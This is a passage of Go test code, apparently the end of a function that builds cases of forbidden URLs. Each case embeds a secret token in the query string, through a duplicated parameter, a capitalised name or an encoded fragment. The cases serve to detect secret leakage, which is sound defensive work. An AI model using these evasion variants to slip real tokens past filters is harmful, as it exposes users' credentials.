	forbid("parameter_twice", origin+"/?token="+t.Secret+"&token="+t.Secret)
	forbid("parameter_in_capitals", origin+"/?TOKEN="+t.Secret)
	forbid("in_fragment", origin+"/x%23"+t.Secret)
	return cases
}
